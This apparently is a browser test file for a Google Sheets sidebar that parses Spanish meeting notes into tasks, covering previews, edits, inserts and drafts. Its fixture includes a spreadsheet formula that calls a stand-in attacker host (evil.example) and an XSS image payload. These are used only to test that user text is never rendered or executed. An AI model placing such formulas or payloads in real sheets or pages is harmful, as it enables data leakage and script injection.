// The Notes tab in Chromium against a recording google.script.run: preview, edits, insert, drafts, text safety.
import type { ImportRequest } from '../../src/server/api';
import {
  lastCall,
  NOTE,
  serverCalled,
  taskCard,
  typeNotes,
  useSidebarBrowser,
} from '../sidebar/browser-harness';

const INJECTION_NOTE = [
  'Tareas',
  '- Laura: =IMPORTXML("http://evil.example/x", "//a") para el viernes',
  '- Sofi: revisar <img src=x onerror=alert(1)> el banner mañana',
].join('\n');

const { open } = useSidebarBrowser();

describe('sidebar: notes to preview to insert', () => {
  it('shows objectives, tasks and the counts as the VA types', async () => {
    const sidebar = await open();
    if (!sidebar) return;
    const { page } = sidebar;
    await typeNotes(page, NOTE);
    await page.locator('.counts', { hasText: '3 tareas' }).waitFor();
    await expect(page.locator('.counts').textContent()).resolves.toBe(
      '1 objetivo, 3 tareas, 1 sin responsable',
    );
    expect(await page.locator('li.objective').count()).toBe(1);
    expect(await page.locator('li.task').count()).toBe(3);
    expect(await page.locator('li.objective .badge').allTextContents()).toEqual(['E', 'M', 'A', 'R', 'T']);
    expect(await taskCard(page, 'Enviar el newsletter').locator('.flag').allTextContents()).toContain(
      'Sin responsable',
    );
    expect(sidebar.externalRequests).toEqual([]);
    await page.close();
  });

  it('sends the VA edits: owner, date and an unticked task', async () => {
    const sidebar = await open();
    if (!sidebar) return;
    const { page } = sidebar;
    await typeNotes(page, NOTE);
    const unowned = taskCard(page, 'Enviar el newsletter');
    await unowned.waitFor();
    await unowned.getByLabel('Responsable').fill('Laura');
    await unowned.getByLabel('Vence').fill('2026-03-25');
    await taskCard(page, 'pasar los textos').getByRole('checkbox').uncheck();
    await page.locator('.counts', { hasText: '2 tareas' }).waitFor();
    const firstObjective = page.locator('li.objective').first();
    await firstObjective.getByText('Cómo mejorarlo').click();
    await firstObjective.getByLabel('Confirmado con el cliente: alcanzable').check();
    await page.getByRole('button', { name: 'Agregar a la hoja' }).click();
    await page.getByRole('status').filter({ hasText: '2 tareas agregadas' }).waitFor();
    const request = (await lastCall(sidebar, 'importMeeting'))?.args[0] as ImportRequest;
    expect(request.tasks.map((task) => task.text)).toEqual([
      expect.stringContaining('diseñar la plantilla del newsletter'),
      expect.stringContaining('Enviar el newsletter'),
    ]);
    expect(request.tasks[1]).toMatchObject({ owners: ['Laura'], due: '2026-03-25' });
    expect(request.meeting.notes).toBe(NOTE);
    expect(request.objectives[0]?.smart).toMatchObject({ achievable: true, realistic: null });
    await page.getByRole('button', { name: 'Ver filas nuevas' }).click();
    await serverCalled(page, 'selectRows');
    expect((await lastCall(sidebar, 'selectRows'))?.args).toEqual(['Tareas', [5, 6]]);
    await page.close();
  });

  it('keeps an edit while the VA goes on typing', async () => {
    const sidebar = await open();
    if (!sidebar) return;
    const { page } = sidebar;
    await typeNotes(page, NOTE);
    await taskCard(page, 'Enviar el newsletter').getByLabel('Responsable').fill('Laura');
    await typeNotes(page, `${NOTE}\n- Laura: aprobar el diseño el lunes`);
    await page.locator('li.task').nth(3).waitFor();
    await expect(taskCard(page, 'Enviar el newsletter').getByLabel('Responsable').inputValue()).resolves.toBe(
      'Laura',
    );
    await page.close();
  });

  it('shows the server error and keeps the notes', async () => {
    const sidebar = await open({}, { importMeeting: 'La hoja está protegida' });
    if (!sidebar) return;
    const { page } = sidebar;
    await typeNotes(page, NOTE);
    await page.locator('li.task').first().waitFor();
    await page.getByRole('button', { name: 'Agregar a la hoja' }).click();
    await page.getByRole('alert').filter({ hasText: 'La hoja está protegida' }).waitFor();
    await expect(page.getByLabel('Notas de la reunión').inputValue()).resolves.toBe(NOTE);
    await expect(page.getByRole('button', { name: 'Agregar a la hoja' }).isEnabled()).resolves.toBe(true);
    await page.close();
  });
});

describe('sidebar: drafts', () => {
  it('saves what the VA types and brings it back when the sidebar opens again', async () => {
    const sidebar = await open();
    if (!sidebar) return;
    await typeNotes(sidebar.page, NOTE);
    await serverCalled(sidebar.page, 'saveDraft');
    expect((await lastCall(sidebar, 'saveDraft'))?.args[0]).toMatchObject({ notes: NOTE });
    await sidebar.page.close();
    const reopened = await open({ draft: { meetingDate: null, title: 'Semanal', notes: NOTE } });
    if (!reopened) return;
    await reopened.page.locator('li.task').first().waitFor();
    await expect(reopened.page.getByLabel('Notas de la reunión').inputValue()).resolves.toBe(NOTE);
    await expect(reopened.page.getByLabel('Título').inputValue()).resolves.toBe('Semanal');
    await reopened.page.close();
  });
});

describe('sidebar: user text is only text', () => {
  it('never turns notes into HTML', async () => {
    const sidebar = await open();
    if (!sidebar) return;
    const { page } = sidebar;
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await typeNotes(page, INJECTION_NOTE);
    await page.locator('li.task').nth(1).waitFor();
    expect(await page.locator('img').count()).toBe(0);
    const texts = await page
      .locator('.task-text')
      .evaluateAll((inputs) => inputs.map((input) => (input as HTMLTextAreaElement).value));
    expect(texts.join('\n')).toContain('<img src=x onerror=alert(1)>');
    expect(texts.join('\n')).toContain('=IMPORTXML(');
    expect(dialogs).toEqual([]);
    await page.close();
  });
});
